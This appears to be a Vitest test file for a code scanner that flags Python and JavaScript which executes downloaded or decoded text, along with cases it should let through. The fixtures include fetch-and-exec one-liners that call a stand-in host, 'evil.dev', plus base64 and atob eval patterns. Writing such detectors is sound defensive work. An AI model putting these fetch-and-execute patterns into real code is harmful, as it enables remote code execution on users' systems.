import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  ["a.py", 'exec(requests.get("https://evil.dev/x").text)', "block evaluated-download:1"],
  ["a.py", "import requests\nr = requests.get(URL)\n\nexec(r.text)", "block evaluated-download:4"],
  ["a.py", 'exec(urllib.request.urlopen("http://localhost:8000/x").read())', "info evaluated-download:1"],
  ["a.js", 'eval(await (await fetch("https://evil.dev/x")).text());', "block evaluated-download:1"],
  ["a.js", "const code = await fetch(url);\nnew Function(code)();", "block evaluated-download:2"],
  ["a.py", 'exec(base64.b64decode("cHJpbnQoMSk="))', "block evaluated-decoded-text:1"],
  ["a.py", 'code = zlib.decompress(blob)\nexec(compile(code, "x", "exec"))', "block evaluated-decoded-text:2"],
  ["a.js", 'eval(atob("YWxlcnQoMSk="))', "block evaluated-decoded-text:1"],
  ["tests/a.py", 'exec(base64.b64decode("cHJpbnQoMSk="))', "warn evaluated-decoded-text:1"],
])("finds evaluation of foreign text in %s: %s", async (path, text, expected) => {
  expect(await found(path, text)).toStrictEqual([expected]);
});

test.each([
  ["a.js", 'const match = /a(b)/.exec(await fetch("https://a.dev").then((r) => r.text()));'],
  ["a.js", "pattern.exec(fetch(url))"],
  ["a.py", 'data = requests.get("https://a.dev").json()\nprint(data)'],
  ["a.py", 'png = base64.b64decode(data)\nopen("a.png", "wb").write(png)'],
  ["a.py", "result = eval(expression)"],
  ["a.md", "| `exec\\s*\\(\\s*requests\\.get` | Python |"],
  ["a.py", "cursor.exec(requests.get(url).text)"],
])("lets through what only looks like it in %s: %s", async (path, text) => {
  expect(await found(path, text)).toStrictEqual([]);
});

test("leaves alone rules that match such code, with any arguments", async () => {
  expect(
    await found("rules/a.yml", "- pattern: exec(base64.b64decode(...))\n- pattern: eval(atob(...))\n"),
  ).toStrictEqual([]);
  expect(await found("rules/a.yml", "- run: exec(base64.b64decode(x)) # (...)\n")).toStrictEqual([
    "block evaluated-decoded-text:1",
  ]);
});
